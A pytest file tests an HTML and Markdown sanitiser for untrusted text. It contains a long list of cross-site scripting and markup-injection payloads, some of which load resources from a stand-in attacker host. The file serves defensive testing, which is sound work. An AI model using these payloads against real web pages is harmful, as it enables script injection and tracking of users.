"""What people and models write can be read on every screen and can act on none."""

from html.parser import HTMLParser

import pytest

from finale.pages.untrusted import TAGS, Reach, plain, safe_html

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)>",
    "</p><script>alert(1)</script><p>",
    "</div></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset='http://evil.example/p.png 1x'>",
    "<img/src=`x`onerror=alert(1)>",
    "<image src=x href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x>#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=preload as=image href=http://evil.example/x.png>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>p{background:url(http://evil.example/p)}</style>",
    "<p style='background:url(http://evil.example/p)'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<p class='stage-dark' id='app'>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<strong tabindex=1 onfocus=alert(1) autofocus>x</strong>",
    "<ul style=list-style:url(http://evil.example/p)><li>x</ul>",
    "<li dir='ltr' onclick=alert(1)>x</li>",
    "<ol start='1' reversed onclick=alert(1)><li>x</ol>",
    "<br onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=http://evil.example/p.png></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<source src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=//evil.example>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](http://evil.example/?q=1)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](http://evil.example 'onclick=alert(1)')",
    "![x](http://evil.example/pixel.gif)",
    '![x](http://evil.example/p.gif "onerror=alert(1)")',
    '![" onerror=alert(1) x="](x)',
    "![<img src=x onerror=alert(1)>](x)",
    "[![x](http://evil.example/p.gif)](javascript:alert(1))",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "<me@evil.example>",
    "http://evil.example/pixel.gif",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onclick=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- <img src=x>",
    "**<script>alert(1)</script>**",
    "*<svg/onload=alert(1)>*",
    "| <script>alert(1)</script> |\n|---|\n| x |",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<p v-html=\"'<img src=x onerror=alert(1)>'\">x</p>",
    "<component :is='script'>alert(1)</component>",
    "<img src='x' \x00onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "<p>\u2028<script>alert(1)</script></p>",
    "\ufeff<script>alert(1)</script>",
    "<" * 2000,
    "[" * 2000,
    "*" * 2000,
    "> " * 500 + "x",
    "- " * 500 + "x",
)


class Reader(HTMLParser):
    """Keeps every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def test_payloads_are_more_than_sixty() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_safe_html_holds_only_tags_that_cannot_act(payload: str) -> None:
    read = Reader(safe_html(payload))
    assert read.tags - TAGS == set()
    assert read.others == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_safe_html_has_no_attribute_but_direction(payload: str) -> None:
    read = Reader(safe_html(payload))
    assert read.attributes <= {("p", "dir", "auto"), ("li", "dir", "auto")}


def test_safe_html_keeps_paragraphs_bold_italic_and_breaks() -> None:
    html = safe_html("**Decision.** I *would*\noffer.\n\nWhy")
    first = '<p dir="auto"><strong>Decision.</strong> I <em>would</em><br>\noffer.</p>'
    assert html == f'{first}\n<p dir="auto">Why</p>\n'


def test_safe_html_keeps_lists_and_the_number_they_start_at() -> None:
    html = safe_html("- a\n- b\n\n3. c")
    bullets = '<ul>\n<li dir="auto">a</li>\n<li dir="auto">b</li>\n</ul>\n'
    assert html == bullets + '<ol start="3">\n<li dir="auto">c</li>\n</ol>\n'


def test_safe_html_turns_a_heading_into_a_bold_paragraph() -> None:
    assert safe_html("## Premium") == '<p dir="auto"><strong>Premium</strong></p>'


def test_safe_html_keeps_only_the_words_of_links_pictures_and_code() -> None:
    html = safe_html("see [the *file*](http://x.example) ![a plan](p.png) `a < b`")
    assert html == '<p dir="auto">see the <em>file</em> a plan a &lt; b</p>\n'


def test_safe_html_shows_html_as_it_was_typed() -> None:
    assert safe_html("<b>x</b>") == '<p dir="auto">&lt;b&gt;x&lt;/b&gt;</p>\n'


def test_safe_html_drops_marks_that_turn_the_order_of_letters() -> None:
    assert safe_html("pa\u202eyp\u202cal") == '<p dir="auto">paypal</p>\n'


LINKS = [
    ("a [b](<c d>) e", "a b e"),
    ('a [b](c "d e") f', "a b f"),
    ("a [b](c(d)e) f", "a b f"),
    ("a [b](two words) c", "a [b](two words) c"),
    ("a [b [c](d)", "a [b c"),
    ("a [b] c", "a [b] c"),
    ("a [b\\]](c) d", "a b] d"),
    ("a [b]() c", "a b c"),
    ("**[a](b)** ![c](d)!", "<strong>a</strong> c!"),
]


@pytest.mark.parametrize(("text", "words"), LINKS)
def test_of_links_the_words_stay_and_what_is_no_link_stays_as_typed(text: str, words: str) -> None:
    assert safe_html(text) == f'<p dir="auto">{words}</p>\n'


def test_a_text_beyond_the_reach_is_shown_as_typed_and_then_counted() -> None:
    html = safe_html("**a** b\n\n**c**\n<d>\n\n\n\ne" + "f" * 10, Reach(9, 24))

    assert html == (
        '<p dir="auto"><strong>a</strong> b</p>\n'
        '<p dir="auto">**c**<br>&lt;d&gt;</p>\n'
        '<p dir="auto">ef</p>\n'
        '<p dir="auto">… and 9 more characters</p>'
    )


@pytest.mark.parametrize("payload", PAYLOADS[:-5], ids=range(len(PAYLOADS) - 5))
def test_what_is_shown_as_typed_cannot_act_either(payload: str) -> None:
    read = Reader(safe_html(payload, Reach(0, 1_000)))

    assert read.tags <= {"p", "br"}
    assert read.attributes <= {("p", "dir", "auto")}


def test_half_a_character_is_shown_as_one_that_cannot_be_read() -> None:
    assert safe_html("a\ud800b") == '<p dir="auto">a\ufffdb</p>\n'


def test_plain_is_one_line_of_words() -> None:
    text = "# Decision\nI **would**\noffer.\n\n- one\n- <b>two</b> & three"
    assert plain(text) == "Decision I would offer. one <b>two</b> & three"
